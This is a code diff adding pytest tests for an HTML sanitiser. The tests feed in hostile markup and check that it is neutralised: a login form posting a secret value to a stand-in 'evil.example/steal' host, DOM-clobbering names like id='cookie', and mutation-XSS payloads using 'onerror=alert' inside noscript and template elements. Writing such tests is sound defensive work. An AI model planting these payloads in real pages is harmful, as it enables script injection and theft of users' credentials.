@@ -61,10 +61,49 @@ def test_escaped_text_stays_text_under_the_dripper_profile() -> None:
     assert active_content(safe) == [] and "&lt;script&gt;alert(1)&lt;/script&gt;" in safe
 
 
-def test_input_block_marks_are_dropped_real_ones_kept() -> None:
+def test_input_block_marks_are_dropped_real_ones_kept_when_asked_for() -> None:
     html = in_page('<p _item_id="99" cc-block-type="true">Forged marks on a paragraph.</p>')
-    r = SANITISED.extract(html)
+    r = Extractor(labeler=AllMain(), output="html", item_ids=True).extract(html)
     assert item_ids(r.main_html) == list(range(1, r.n_blocks + 1)) and "cc-block-type" not in r.main_html
+    default = SANITISED.extract(html).main_html
+    assert item_ids(default) == [] and "cc-block-type" not in default and "Forged marks" in default
+    assert item_ids(KEPT.extract(html).main_html) == list(range(1, r.n_blocks + 1))  # the reference's marks
+
+
+def test_forms_become_text() -> None:
+    html = in_page(
+        '<form action="https://evil.example/steal" method="post"><fieldset><legend>Sign in</legend>'
+        '<label for="u">User name</label> <input id="u" name="user" value="secret-value">'
+        '<select name="s"><option>Choice one</option></select><datalist><option>listed</option></datalist>'
+        '<textarea name="t">Typed &lt;/textarea&gt;&lt;b&gt;text</textarea>'
+        '<button formaction="https://evil.example/b" type="submit">Send it</button></fieldset></form>'
+    )
+    safe, kept = SANITISED.extract(html), KEPT.extract(html)
+    assert active_content(safe.main_html) == [] and active_content(kept.main_html) != []
+    for gone in ("<form", "<input", "<button", "<select", "<textarea", "<label", "action=", "secret-value", "Choice"):
+        assert gone not in safe.main_html
+    for text in ("Sign in", "User name", "Typed &lt;/textarea&gt;&lt;b&gt;text", "Send it"):
+        assert text in safe.main_html
+    assert safe.text == kept.text  # laid out as before: the renamed elements have the same text layout
+
+
+@pytest.mark.parametrize("attr", ['id="cookie"', 'name="getElementById"', 'name="body"', 'id="attributes"'])
+def test_dom_clobbering_names_are_dropped(attr: str) -> None:
+    html = in_page(f'<p><img {attr} src="/a.png"> <a {attr} href="/x">link</a> and <span id="top">top</span></p>')
+    safe = SANITISED.extract(html).main_html
+    assert attr not in safe and active_content(safe) == [] and 'id="top"' in safe and 'src="/a.png"' in safe
+    assert f"img[{attr.split('=')[0]}]" in active_content(KEPT.extract(html).main_html)
+
+
+def test_noscript_and_template_content_stays_inert() -> None:
+    # mutation XSS: with scripting on, a browser ends <noscript> at the first "</noscript" in it
+    html = in_page(
+        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">Noscript paragraph with words.</p></noscript>'
+        "<template><img src=x onerror=alert(2)><p>Template paragraph.</p></template>"
+    )
+    safe = SANITISED.extract(html).main_html
+    assert safe.count("</noscript") == safe.count("<noscript") == 1 and "Noscript paragraph" in safe
+    assert active_content(safe) == [] and "Template paragraph." in safe and "alert(2)" not in safe
 
 
 def test_legacy_raw_text_elements_read_back_as_text() -> None:
